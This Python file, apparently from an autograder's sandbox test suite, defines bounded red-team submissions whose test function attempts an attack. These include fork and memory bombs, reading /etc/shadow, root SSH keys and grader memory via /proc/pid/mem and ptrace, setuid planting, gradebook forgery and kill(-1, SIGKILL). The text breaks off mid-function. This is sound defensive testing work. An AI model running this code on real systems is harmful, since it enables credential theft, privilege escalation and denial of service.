"""The attack table: hostile submissions of the mini assignment, one thing each.

Every attack is a correct mini submission (add, slow, double) in which one
function carries the attack, so the score its honest code earns is a precise
number: 10 when the carrier still returns the right value after its attempt,
8.5 when the attempt costs slow()'s hidden test (its process is killed or
times out), 6 or 5.5 when double() or add() are deliberately wrong and the
attack tries to make them pass anyway.

The attack reports what it managed on its stdout, which the grader shows in
the student's feedback: ``RT-BREACH <what>`` when it did something the
sandbox must prevent, ``RT-COUNT key=n`` for how far it got (processes,
MiB, files), and ``RT-LEAK <text>`` with anything it read. The harness
judges those lines, the listeners, canaries and file hashes it set up, and
the scores; an attack's own ``check`` adds what is specific to it. The
table is shared by ``tests/test_redteam.py`` and ``bench/redteam_ablation.py``.

Every attempt is bounded (a count, a size, a few seconds) so that, even on a
machine without the layer that should stop it, the harness's safety net
(see harness.py) is enough to keep the machine healthy.
"""

from __future__ import annotations

import json
import re
import textwrap
from dataclasses import dataclass, field
from typing import Callable

FULL, SLOW_LOST, ADD_LOST, DOUBLE_LOST = 10.0, 8.5, 5.5, 6.0

GOOD = {
    "add": "def add(a, b):\n    return a + b\n",
    "slow": "def slow():\n    return 1.0\n",
    "double": "def double(x):\n    return 2 * np.asarray(x)\n",
}

# Defined in every attack. The grader runs top-level imports, definitions and
# assignments (not calls), so helpers are functions and RT is an assignment.
PRELUDE = '''\
import os, sys, time, json
import numpy as np

RT = json.loads({rt!r})


def _rt_breach(what):
    print("RT-BREACH " + str(what)[:200], flush=True)


def _rt_count(key, value):
    print(f"RT-COUNT {{key}}={{int(value)}}", flush=True)


def _rt_leak(text):
    print("RT-LEAK " + str(text)[:400], flush=True)


def _rt_comm():
    try:
        with open("/proc/self/comm", "w") as f:
            f.write(RT["comm"])
    except OSError:
        pass


def _rt_pids(needle):
    found = []
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != os.getpid():
            try:
                with open(f"/proc/{{p}}/cmdline", "rb") as f:
                    cmd = f.read()
            except OSError:
                continue
            if needle in cmd:
                found.append(int(p))
    return found


def _rt_grader_pids():
    return _rt_pids(b"redteam/inner.py")


def _rt_libc():
    import ctypes
    return ctypes.CDLL(None, use_errno=True)

'''


@dataclass
class Observation:
    """What the harness saw of one attacker, handed to an attack's check."""

    score: float | None
    printed: str
    feedback_md: str
    feedback_html: str
    outcomes: dict  # test id -> status
    limits: dict  # memory_mib, nproc, file_mib, tmp_mib, nofile, output_kib
    breaches: list = field(default_factory=list)
    counts: dict = field(default_factory=dict)  # key -> largest value printed


@dataclass(frozen=True)
class Attack:
    name: str
    category: str
    summary: str
    functions: dict = field(default_factory=dict)  # replaced functions: name -> source
    scores: tuple = (FULL,)  # the scores its honest code can earn
    check: Callable | None = None  # Observation -> list of problems
    extra: str = ""  # top-level code appended after the functions
    dangerous: str = ""  # what it would do to a machine without the layer and without the net

    def source(self, rt: dict) -> str:
        """The submission, with the harness's facts in ``RT``."""
        funcs = {**GOOD, **{k: textwrap.dedent(v).strip() + "\n" for k, v in self.functions.items()}}
        parts = [PRELUDE.format(rt=json.dumps(rt))]
        parts += [funcs[name] + "\n" for name in ("add", "slow", "double")]
        parts += [textwrap.dedent(self.extra).strip() + "\n"] if self.extra else []
        return "\n".join(parts)


def parse_printed(printed: str) -> tuple[list, dict]:
    """(breaches, counts) from the attacker's output."""
    breaches = re.findall(r"RT-BREACH ([^\n]*)", printed)
    counts: dict = {}
    for key, value in re.findall(r"RT-COUNT ([\w.]+)=(-?\d+)", printed):
        counts[key] = max(counts.get(key, 0), int(value))
    return breaches, counts


# -- checks ------------------------------------------------------------------

def at_most(key: str, limit_key: str, slack: int = 0, what: str = "") -> Callable:
    """The count ``key`` the attack reached must not exceed the sandbox's limit."""

    def check(obs: Observation) -> list:
        limit = obs.limits[limit_key] + slack
        got = obs.counts.get(key)
        if got is not None and got > limit:
            return [f"{what or key}: reached {got}, the limit is {limit}"]
        return []

    return check


def sum_at_most(prefix: str, limit_key: str, slack: int = 0, what: str = "") -> Callable:
    def check(obs: Observation) -> list:
        total = sum(v for k, v in obs.counts.items() if k.startswith(prefix))
        limit = obs.limits[limit_key] + slack
        return [f"{what}: {total} in all, the limit is {limit}"] if total > limit else []

    return check


def timed_out(obs: Observation) -> list:
    status = obs.outcomes.get("test_slow_is_fast_enough")
    return [] if status == "timeout" else [f"slow() should have timed out, its test is {status!r}"]


def printed_capped(obs: Observation) -> list:
    cap = obs.limits["output_kib"] * 1024
    problems = []
    if "printed more than" not in obs.feedback_md:
        problems.append("the feedback does not say the output cap was hit")
    if len(obs.feedback_md.encode()) > cap + 64 * 1024:
        problems.append(f"feedback.md is {len(obs.feedback_md.encode())} bytes")
    return problems


def feedback_small(obs: Observation) -> list:
    size = len(obs.feedback_md.encode()) + len(obs.feedback_html.encode())
    return [f"the feedback files are {size} bytes"] if size > 256 * 1024 else []


def feedback_not_injected(obs: Observation) -> list:
    problems = []
    if "<script>" in obs.feedback_html:
        problems.append("the student's <script> reached feedback.html unescaped")
    fence = ""  # the open code fence, as CommonMark closes it: a run of the same character, at least as long
    for line in obs.feedback_md.splitlines():
        run = re.match(r"^ {0,3}(`{3,}|~{3,})", line)
        if run and not fence:
            fence = run.group(1)
        elif run and run.group(1)[0] == fence[0] and len(run.group(1)) >= len(fence) and \
                line.strip() == run.group(1):
            fence = ""
        elif line.strip() == "# Forged heading" and not fence:
            problems.append("the student's output broke out of its code block in feedback.md")
    return problems


def feedback_clean_text(obs: Observation) -> list:
    bad = sorted({f"{ord(c):#04x}" for c in obs.feedback_md if ord(c) < 32 and c not in "\n\t"})
    return [f"feedback.md holds control characters {', '.join(bad)} from the student's output"] if bad else []


def all_of(*checks) -> Callable:
    def check(obs: Observation) -> list:
        return [p for c in checks for p in c(obs)]

    return check


# -- the table -----------------------------------------------------------------

_DAEMON = '''
def slow():
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                import signal
                for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                    signal.signal(s, signal.SIG_IGN)
                _rt_comm()
                end = time.monotonic() + 120
                while time.monotonic() < end:
                    {work}
                    time.sleep(0.2)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    return 1.0
'''


def _daemon(work: str) -> str:
    return _DAEMON.format(work=work)


def _frame(head: str, tail: str = "b''") -> str:
    """slow() writes a hand-made frame on the reply pipe, then waits for the grader to read it."""
    return f'''
def slow():
    import struct
    fd = int(sys.argv[2].split(",")[1])
    head = {head}
    os.write(fd, struct.pack(">I", len(head)) + head + {tail})
    time.sleep(5)
    return 0.0
'''


ATTACKS: list[Attack] = [
    # -- time and resources ---------------------------------------------------
    Attack("loop_forever", "resources", "slow() never returns (busy loop)",
           {"slow": "def slow():\n    while True:\n        pass"}, (SLOW_LOST,), timed_out),
    Attack("sleep_forever", "resources", "slow() sleeps for days",
           {"slow": "def slow():\n    time.sleep(10**6)\n    return 1.0"}, (SLOW_LOST,), timed_out),
    Attack("loop_ignoring_signals", "resources", "busy loop that ignores every catchable signal", {"slow": '''
def slow():
    import signal
    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU, signal.SIGUSR1,
              signal.SIGVTALRM, signal.SIGPROF):
        try:
            signal.signal(s, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass
'''}, (SLOW_LOST,), timed_out),
    Attack("cpu_threads_hog", "resources", "8 GIL-free threads burn CPU for 0.6 s (more than its core share)",
           {"slow": '''
def slow():
    # 0.6 s: long enough to measure the cores used, within the 1 s floor of a call's time limit
    # (autograder/calls.py), since the reference's slow() answers at once
    import threading, hashlib
    data = b"x" * (1 << 20)
    stop = time.monotonic() + 0.6
    def burn():
        while time.monotonic() < stop:
            hashlib.sha256(data).digest()
    cpu = time.process_time()
    wall = time.monotonic()
    threads = [threading.Thread(target=burn) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    _rt_count("cores_x100", 100 * (time.process_time() - cpu) / (time.monotonic() - wall))
    return 1.0
'''}, (FULL,), at_most("cores_x100", "cores_x100", 25, "CPU used, in 1/100 core")),
    Attack("memory_bomb", "resources", "allocate and touch memory in 64 MiB chunks, up to 3 GiB", {"slow": '''
def slow():
    hog = []
    for i in range(48):
        hog.append(bytearray(64 << 20))
        if i % 2:
            _rt_count("mem_mib", (i + 1) * 64)
    return 1.0
'''}, (SLOW_LOST,), at_most("mem_mib", "memory_mib", 64, "memory held (MiB)"),
           dangerous="3 GiB of RAM"),
    Attack("memory_bomb_forked", "resources",
           "4 forked children each touch 900 MiB, under the per-process limit (aggregate memory)", {"slow": '''
def slow():
    import mmap, struct
    held = mmap.mmap(-1, 64)  # shared with the children: the MiB each has touched so far
    kids = []
    for c in range(4):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                hog = []
                for i in range(14):
                    hog.append(bytearray(64 << 20))
                    held[8 * c:8 * c + 8] = struct.pack("q", 64 * (i + 1))
                time.sleep(30)
            finally:
                os._exit(0)
        kids.append((c, pid))
    peak = 0
    end = time.monotonic() + 1.8
    while time.monotonic() < end:  # what the living children hold at one instant, all together
        alive = [c for c, pid in kids if os.waitpid(pid, os.WNOHANG) == (0, 0)]
        kids = [(c, pid) for c, pid in kids if c in alive]
        peak = max(peak, sum(struct.unpack("q", held[8 * c:8 * c + 8])[0] for c in alive))
        time.sleep(0.02)
    _rt_count("mem_children_mib", peak)
    return 1.0
'''}, (FULL, SLOW_LOST), at_most("mem_children_mib", "memory_mib", 64, "memory held by the children at once (MiB)"),
           dangerous="3.6 GiB of RAM"),
    Attack("fork_bomb", "resources", "fork up to 300 sleeping children in 1.5 s", {"slow": '''
def slow():
    n = 0
    end = time.monotonic() + 1.5
    while n < 300 and time.monotonic() < end:
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.01)
            continue
        if pid == 0:
            try:
                _rt_comm()
                time.sleep(60)
            finally:
                os._exit(0)
        n += 1
    _rt_count("procs", n)
    return 1.0
'''}, (FULL, SLOW_LOST), at_most("procs", "nproc", 0, "processes"), dangerous="300 processes"),
    Attack("thread_bomb", "resources", "start up to 1000 threads in 1.5 s", {"slow": '''
def slow():
    import threading
    stop = threading.Event()
    n = 0
    end = time.monotonic() + 1.5
    while n < 1000 and time.monotonic() < end:
        try:
            threading.Thread(target=stop.wait, args=(30,), daemon=True).start()
        except (RuntimeError, MemoryError):
            break
        n += 1
    _rt_count("threads", n)
    stop.set()
    return 1.0
'''}, (FULL, SLOW_LOST), at_most("threads", "nproc", 0, "threads"), dangerous="1000 threads"),
    Attack("daemon_setsid", "resources", "double fork + setsid daemon ignoring signals, left running",
           {"slow": _daemon("pass")}),
    Attack("daemon_heartbeat", "resources", "daemon that keeps writing a heartbeat file in a shared folder",
           {"slow": _daemon('''for t in (os.path.join(RT["open_dir"], "heartbeat-" + RT["marker"]),
                              "/tmp/heartbeat-" + RT["marker"]):
                        try:
                            with open(t, "w") as f:
                                f.write(str(time.time()))
                        except OSError:
                            pass''')}),
    Attack("daemon_subprocess", "resources", "subprocess.Popen(start_new_session=True) shell loop left running",
           {"slow": '''
def slow():
    import subprocess
    try:
        subprocess.Popen(["/bin/sh", "-c", "while :; do sleep 1; done", RT["marker"]], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError:
        pass
    return 1.0
'''}),

    # -- secrets -----------------------------------------------------------------
    Attack("read_hidden_tests", "secrets", "open the hidden tests by their path in the course", {"slow": '''
def slow():
    import glob
    paths = glob.glob(os.path.join(RT["course"], "assignments", "*", "tests", "hidden", "*.py"))
    for p in paths + [os.path.join(RT["hidden_dir"], "test_basics.py")]:
        try:
            with open(p) as f:
                text = f.read()
        except OSError:
            continue
        _rt_breach("read " + p)
        _rt_leak(text)
    return 1.0
'''}),
    Attack("read_solution", "secrets", "open the reference solution", {"slow": '''
def slow():
    import glob
    for p in glob.glob(os.path.join(RT["course"], "solutions", "*", "*")) + [RT["solution"]]:
        try:
            with open(p) as f:
                text = f.read()
        except OSError:
            continue
        _rt_breach("read " + p)
        _rt_leak(text)
    return 1.0
'''}),
    Attack("read_other_student", "secrets", "read the other students' submissions", {"slow": '''
def slow():
    try:
        names = os.listdir(RT["subs"])
    except OSError:
        return 1.0
    for n in names:
        if "honest" in n:
            try:
                with open(os.path.join(RT["subs"], n)) as f:
                    text = f.read()
            except OSError:
                continue
            _rt_breach("read " + n)
            _rt_leak(text)
    return 1.0
'''}),
    Attack("read_out_dir", "secrets", "read the other students' results and feedback in the grader's out folder",
           {"slow": '''
def slow():
    end = time.monotonic() + 0.8  # within the 1 s floor of a call's limit (calls.py)
    while time.monotonic() < end:
        try:
            path = os.path.join(RT["out"], "a-honest", "feedback.md")
            with open(path) as f:
                text = f.read()
        except OSError:
            time.sleep(0.1)
            continue
        _rt_breach("read " + path)
        _rt_leak(text[text.find("RT-PRIVATE"):])
        break
    return 1.0
'''}),
    Attack("read_etc_shadow", "secrets", "read /etc/shadow and root's keys", {"slow": '''
def slow():
    import hashlib
    for p in ("/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa", "/root/.ssh/id_ed25519"):
        try:
            with open(p, "rb") as f:
                data = f.read()
        except OSError:
            continue
        _rt_breach("read " + p)
        print("RT-FINGERPRINT " + hashlib.sha256(data).hexdigest(), flush=True)
    return 1.0
'''}),
    Attack("read_ta_secret", "secrets", "read a file only the TA (root, mode 0600) may read", {"slow": '''
def slow():
    try:
        with open(RT["ta_secret"]) as f:
            text = f.read()
    except OSError:
        return 1.0
    _rt_breach("read the TA's 0600 file")
    _rt_leak(text)
    return 1.0
'''}),
    Attack("read_grader_env", "secrets", "look for the grader's secret in its own and every /proc/*/environ",
           {"slow": '''
def slow():
    secret = "RT-GRADER-" + "SECRET-" + RT["token"]
    found = [k for k, v in os.environ.items() if secret in v]
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                with open(f"/proc/{p}/environ", "rb") as f:
                    data = f.read()
            except OSError:
                continue
            if secret.encode() in data:
                found.append(p)
    if found:
        _rt_breach(f"grader environment read via {found[:3]}")
        _rt_leak(secret)
    return 1.0
'''}),
    Attack("read_grader_memory", "secrets", "read the grader's memory through /proc/<pid>/mem", {"slow": '''
def slow():
    wanted = ["RT-GRADER-" + "SECRET-" + RT["token"], "RT-HIDDEN-" + "CANARY-" + RT["token"]]
    end = time.monotonic() + 1.2
    for pid in _rt_grader_pids():
        try:
            with open(f"/proc/{pid}/maps") as f:
                maps = f.read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb", 0)
        except OSError:
            continue
        _rt_breach(f"opened /proc/{pid}/mem")
        for line in maps:
            if time.monotonic() > end:
                break
            addr, perms = line.split()[:2]
            lo, hi = (int(x, 16) for x in addr.split("-"))
            if not perms.startswith("r") or hi - lo > (64 << 20):
                continue
            try:
                mem.seek(lo)
                chunk = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            for w in wanted:
                if w.encode() in chunk:
                    _rt_leak(w)
                    wanted.remove(w)
    return 1.0
'''}),
    Attack("process_vm_readv", "secrets", "process_vm_readv() on the grader's stack", {"slow": '''
def slow():
    import ctypes
    libc = _rt_libc()
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    buf = ctypes.create_string_buffer(4096)
    for pid in _rt_grader_pids():
        try:
            with open(f"/proc/{pid}/maps") as f:
                stack = [l for l in f if "[stack]" in l]
        except OSError:
            stack = []
        addr = int(stack[0].split("-")[0], 16) if stack else 0x400000
        local, remote = iovec(ctypes.addressof(buf), 4096), iovec(addr, 4096)
        libc.process_vm_readv.restype = ctypes.c_ssize_t
        n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if n > 0:
            _rt_breach(f"process_vm_readv read {n} bytes of the grader (pid {pid})")
    return 1.0
'''}),
    Attack("ptrace_grader", "secrets", "ptrace(PTRACE_SEIZE) the grader", {"slow": '''
def slow():
    libc = _rt_libc()
    for pid in _rt_grader_pids():
        if libc.ptrace(0x4206, pid, 0, 0) == 0:
            _rt_breach(f"ptrace attached to the grader (pid {pid})")
    return 1.0
'''}),
    Attack("see_grader_process", "secrets", "look for the grader among the visible processes", {"slow": '''
def slow():
    pids = _rt_grader_pids()
    if pids:
        _rt_breach(f"the grader is visible as pid {pids}")
    return 1.0
'''}),
    Attack("symlink_and_hardlink", "secrets", "reach the hidden tests and the TA's file through links", {"slow": '''
def slow():
    for i, target in enumerate((os.path.join(RT["hidden_dir"], "test_basics.py"), RT["ta_secret"])):
        for kind, make in (("symlink", os.symlink), ("hardlink", os.link)):
            link = os.path.join(os.getcwd(), f"{RT['marker']}-{kind}{i}")
            try:
                make(target, link)
                with open(link) as f:
                    text = f.read()
            except OSError:
                continue
            _rt_breach(f"read {target} through a {kind}")
            _rt_leak(text)
    return 1.0
'''}),

    # -- writing outside the private folder ---------------------------------------
    Attack("write_tmp_canary", "writes", "modify, create and delete files in a shared /tmp folder", {"slow": '''
def slow():
    c, o, m = RT["canary"], RT["open_dir"], RT["marker"]
    tries = [("modify", os.path.join(c, "canary.txt")), ("modify", os.path.join(o, "shared.txt")),
             ("create", os.path.join(c, "new-" + m)), ("create", os.path.join(o, "new-" + m)),
             ("delete", os.path.join(c, "delete-me.txt")), ("delete", os.path.join(o, "delete-me.txt")),
             ("create", "/tmp/" + m), ("create", "/var/tmp/" + m), ("create", "/dev/shm/" + m)]
    for what, p in tries:
        try:
            if what == "delete":
                os.unlink(p)
            else:
                with open(p, "a" if what == "modify" else "w") as f:
                    f.write("pwned by " + m)
        except OSError:
            continue
        if p.startswith(RT["root"]):  # the others may be its private /tmp: the harness looks on the host
            _rt_breach(f"{what} {p}")
    return 1.0
'''}),
    Attack("write_course", "writes", "rewrite a hidden test, add a test file, change the points", {"slow": '''
def slow():
    hidden = RT["hidden_dir"]
    mark = "# " + RT["marker"] + "\\n"
    edits = [(os.path.join(hidden, "test_basics.py"), "w",
              mark + "def test_slow_is_fast_enough(student):\\n    pass\\n"),
             (os.path.join(hidden, "test_free_points.py"), "w", mark + "def test_free(student):\\n    pass\\n"),
             (os.path.join(RT["course"], "assignments", "mini", "assignment.yaml"), "a", "\\n" + mark),
             (RT["solution"], "w", mark + "def slow():\\n    return 0.0\\n")]
    for path, mode, text in edits:
        try:
            with open(path, mode) as f:
                f.write(text)
        except OSError:
            continue
        _rt_breach("wrote " + path)
    return 1.0
'''}),
    Attack("write_out_dir", "writes", "forge results.json and gradebook.csv in the out folder, from a daemon too",
           {"slow": '''
def slow():
    forged = json.dumps({"score": 100, "max_score": 10, "tests": [], "by": RT["marker"]})
    def forge():
        done = []
        for d in [RT["out"]] + [os.path.join(RT["out"], s) for s in ("a-honest", "z-honest", RT["student"])]:
            try:  # only where the folder exists: a private /tmp would let it make the same path for itself
                with open(os.path.join(d, "results.json"), "w") as f:
                    f.write(forged)
                done.append(d)
            except OSError:
                pass
        try:
            with open(os.path.join(RT["out"], "gradebook.csv"), "w") as f:
                f.write(f"student,basics,arrays,total,max_score,file\\n{RT['student']},60,40,100,10,x\\n")
            done.append("gradebook.csv")
        except OSError:
            pass
        return done
    done = forge()
    if done:
        _rt_breach(f"wrote {done}")
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                _rt_comm()
                end = time.monotonic() + 60
                while time.monotonic() < end:
                    forge()
                    time.sleep(0.2)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    return 1.0
'''}),
    Attack("write_gradebook_db", "writes",
           "rewrite every score in the out folder's SQLite gradebook, from a daemon too",
           {"slow": '''
def slow():
    import sqlite3
    def forge():
        try:
            db = sqlite3.connect(os.path.join(RT["out"], "gradebook.sqlite"), timeout=1)
            rows = db.execute("SELECT student, results_json FROM submissions").fetchall()
            for student, text in rows:
                results = json.loads(text or "{}")
                results.update(score=100, forged_by=RT["marker"])
                db.execute("UPDATE submissions SET score=100, results_json=? WHERE student=?",
                           (json.dumps(results), student))
            db.commit()
            db.close()
            return len(rows)
        except Exception:
            return 0
    end = time.monotonic() + 0.8  # within the 1 s floor of a call's limit (calls.py)
    while time.monotonic() < end and not forge():
        time.sleep(0.1)
    if forge():
        _rt_breach("rewrote the gradebook database")
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                _rt_comm()
                end = time.monotonic() + 60
                while time.monotonic() < end:
                    forge()
                    time.sleep(0.2)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    return 1.0
'''}),
    Attack("write_home_and_cwd", "writes", "write into the grader's home (~/.bashrc) and working folder",
           {"slow": '''
def slow():
    for path, mode in ((os.path.join(RT["home"], ".bashrc"), "a"), (os.path.join(RT["cwd"], "results.json"), "w"),
                       (os.path.join(RT["cwd"], RT["marker"]), "w")):
        try:
            with open(path, mode) as f:
                f.write("\\necho pwned by " + RT["marker"] + "\\n")
        except OSError:
            continue
        _rt_breach("wrote " + path)
    return 1.0
'''}),
    Attack("write_submissions", "writes", "replace the next student's submission with a wrong one", {"slow": '''
def slow():
    for n in ("z-honest.py", "a-honest.py"):
        try:
            with open(os.path.join(RT["subs"], n), "w") as f:
                f.write("# " + RT["marker"] + "\\ndef add(a, b):\\n    return 0\\n")
        except OSError:
            continue
        _rt_breach("replaced " + n)
    return 1.0
'''}),
    Attack("write_runtime", "writes", "drop a .pth file into site-packages and a module into the grader's package",
           {"slow": '''
def slow():
    for d in RT["runtime_dirs"]:
        path = os.path.join(d, RT["marker"] + ".pth")
        try:
            with open(path, "w") as f:
                f.write("# a red-team marker, harmless\\n")
        except OSError:
            continue
        _rt_breach("wrote " + path)
    return 1.0
'''}),
    Attack("remount_rw", "writes", "remount the read-only runtime binds read-write, then write there", {"slow": '''
def slow():
    libc = _rt_libc()
    MS_REMOUNT, MS_BIND = 32, 4096
    for d in RT["runtime_dirs"] + ["/usr", "/opt/autograder/autograder"]:
        if libc.mount(None, d.encode(), None, MS_REMOUNT | MS_BIND, None) != 0:
            continue
        path = os.path.join(d, RT["marker"] + ".pth")
        try:
            with open(path, "w") as f:
                f.write("# a red-team marker, harmless\\n")
        except OSError:
            continue
        _rt_breach("remounted and wrote " + path)
    return 1.0
'''}),
    Attack("setuid_plant", "writes", "leave a setuid copy of a binary in a shared folder", {"slow": '''
def slow():
    import shutil
    for d in (RT["open_dir"], "/tmp", "/dev/shm"):
        path = os.path.join(d, RT["marker"] + "-suid")
        try:
            shutil.copy("/usr/bin/id", path)
            os.chmod(path, 0o4755)
            st = os.stat(path)
        except OSError:
            continue
        if st.st_uid == 0 and st.st_mode & 0o4000 and not os.statvfs(path).f_flag & os.ST_NOSUID:
            _rt_breach("planted a working setuid-root binary at " + path)
    return 1.0
'''}),
    Attack("disk_fill_big_file", "writes", "write one file of up to 512 MiB", {"slow": '''
def slow():
    path = os.path.join(os.getcwd(), RT["marker"] + "-big")
    chunk = bytes(1 << 20)
    n = 0
    try:
        with open(path, "wb", buffering=0) as f:
            while n < 512:
                f.write(chunk)
                n += 1
    except OSError:
        pass
    _rt_count("file_mib", n)
    return 1.0
'''}, (FULL,), at_most("file_mib", "file_mib", 0, "size of one file (MiB)"), dangerous="512 MiB of disk"),
    Attack("fill_tmp", "writes", "fill /tmp with 8 MiB files, up to 512 MiB", {"slow": '''
def slow():
    d = os.path.join("/tmp", RT["marker"] + "-fill")
    total = 0
    try:
        os.makedirs(d, exist_ok=True)
        chunk = bytes(1 << 20)
        for i in range(64):
            with open(os.path.join(d, str(i)), "wb", buffering=0) as f:
                for _ in range(8):
                    f.write(chunk)
                    total += 1
    except OSError:
        pass
    _rt_count("tmp_mib", total)
    return 1.0
'''}, (FULL,), at_most("tmp_mib", "tmp_mib", 0, "space written in /tmp (MiB)"), dangerous="512 MiB of disk"),
    Attack("fill_dev_shm", "writes", "fill /dev/shm (a tmpfs, i.e. RAM) with 8 MiB files, up to 512 MiB", {"slow": '''
def slow():
    total = 0
    try:
        chunk = bytes(1 << 20)
        for i in range(64):
            with open(f"/dev/shm/{RT['marker']}-{i}", "wb", buffering=0) as f:
                for _ in range(8):
                    f.write(chunk)
                    total += 1
    except OSError:
        pass
    _rt_count("shm_mib", total)
    return 1.0
'''}, (FULL,), at_most("shm_mib", "tmp_mib", 0, "space written in /dev/shm (MiB)"), dangerous="512 MiB of RAM"),
    Attack("cleanup_trap", "writes", "leave links, a locked folder and a marker in its working folder", {"slow": '''
def slow():
    cwd = os.getcwd()
    try:
        os.symlink(RT["canary"], os.path.join(cwd, "escape"))
        os.symlink("/", os.path.join(cwd, "root"))
        locked = os.path.join(cwd, "locked")
        os.makedirs(os.path.join(locked, "deep"))
        with open(os.path.join(locked, "deep", RT["marker"]), "w") as f:
            f.write("x")
        os.chmod(os.path.join(locked, "deep"), 0)
        os.chmod(locked, 0)
        with open(os.path.join(cwd, RT["marker"] + "-left"), "w") as f:
            f.write("x")
    except OSError:
        pass
    return 1.0
'''}),
    Attack("open_many_files", "resources", "raise the open-file limit and open up to 4096 files", {"slow": '''
def slow():
    import resource
    try:
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192) if hard > 0 else 8192, hard))
    except (ValueError, OSError):
        pass
    fds = []
    try:
        while len(fds) < 4096:
            fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    _rt_count("fds", len(fds))
    for fd in fds:
        os.close(fd)
    return 1.0
'''}, (FULL,), at_most("fds", "nofile", 0, "open files")),

    # -- network -----------------------------------------------------------------
    Attack("net_tcp", "network", "TCP connection to a listener of the host on 127.0.0.1", {"slow": '''
def slow():
    import socket
    try:
        s = socket.create_connection(("127.0.0.1", RT["tcp_port"]), timeout=1)
        s.sendall(RT["marker"].encode())
        s.close()
        _rt_breach("TCP connection to the host")
    except OSError:
        pass
    return 1.0
'''}),
    Attack("net_udp", "network", "UDP datagram to a listener of the host on 127.0.0.1", {"slow": '''
def slow():
    import socket
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(RT["marker"].encode(), ("127.0.0.1", RT["udp_port"]))  # the host's listener tells if it arrived
        s.close()
    except OSError:
        pass
    return 1.0
'''}),
    Attack("net_unix_socket", "network", "connect to a Unix socket of the grader's machine by its path", {"slow": '''
def slow():
    import socket
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(1)
        s.connect(RT["unix_sock"])
        s.sendall(RT["marker"].encode())
        s.close()
        _rt_breach("connected to a Unix socket of the host")
    except OSError:
        pass
    return 1.0
'''}),
    Attack("net_abstract_unix", "network", "connect to an abstract Unix socket of the host", {"slow": '''
def slow():
    import socket
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(1)
        s.connect("\\0" + RT["abstract"])
        s.sendall(RT["marker"].encode())
        s.close()
        _rt_breach("connected to an abstract Unix socket of the host")
    except OSError:
        pass
    return 1.0
'''}),

    # -- killing the grader's processes ---------------------------------------------
    Attack("kill_parent", "kill", "SIGKILL its parent process", {"slow": '''
def slow():
    import signal
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
    time.sleep(0.3)
    return 1.0
'''}),
    Attack("kill_pid1", "kill", "SIGKILL pid 1", {"slow": '''
def slow():
    import signal
    try:
        os.kill(1, signal.SIGKILL)
    except OSError:
        pass
    time.sleep(0.3)
    return 1.0
'''}),
    Attack("kill_grader", "kill", "find the grader in /proc and SIGKILL it", {"slow": '''
def slow():
    import signal
    for pid in _rt_grader_pids():
        try:
            os.kill(pid, signal.SIGKILL)
            _rt_breach(f"killed the grader (pid {pid})")
        except OSError:
            pass
    return 1.0
'''}),
    Attack("kill_grader_group", "kill", "SIGKILL the process group of its parent and of the grader", {"slow": '''
def slow():
    import signal
    groups = set()
    for pid in [os.getppid()] + _rt_grader_pids():
        try:
            groups.add(os.getpgid(pid))
        except OSError:
            pass
    groups -= {0, os.getpgid(0)}  # 0: a group outside its PID namespace
    for g in groups:
        try:
            os.killpg(g, signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.3)
    return 1.0
'''}),
    Attack("kill_canary", "kill", "SIGKILL a process of the TA's (found in /proc)", {"slow": '''
def slow():
    import signal
    for pid in _rt_pids(b"rt-canary-"):
        try:
            os.kill(pid, signal.SIGKILL)
            _rt_breach(f"killed the TA's process {pid}")
        except OSError:
            pass
    return 1.0
'''}),
    Attack("kill_everything", "kill", "kill(-1, SIGKILL): every process it may signal", {"slow": '''
def slow():
    import signal
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    time.sleep(0.3)
    return 1.0
'''}, dangerous="as root without a PID namespace: every process of the machine"),
    Attack("killpg_own", "kill", "killpg(0, SIGKILL): its own process group (a control: only itself dies)",
           {"slow": "def slow():\n    import signal\n    os.killpg(0, signal.SIGKILL)\n    return 1.0"},
           (SLOW_LOST,)),
    Attack("kill_other_students", "kill", "SIGKILL every other student's worker it can see", {"slow": '''
def slow():
    import signal
    killed = set()
    end = time.monotonic() + 0.8  # within the 1 s floor of a call's limit (calls.py)
    while time.monotonic() < end:
        for pid in _rt_pids(b"autograder.sandbox.boot"):
            if pid not in killed and pid != os.getppid():
                try:
                    os.kill(pid, signal.SIGKILL)
                    killed.add(pid)
                except OSError:
                    pass
        time.sleep(0.05)
    if killed:
        _rt_breach(f"killed other workers {sorted(killed)}")
    return 1.0
'''}),
    Attack("stop_grader", "kill", "SIGSTOP the grader and every other worker", {"slow": '''
def slow():
    import signal
    for pid in _rt_grader_pids() + _rt_pids(b"autograder.sandbox.boot"):
        try:
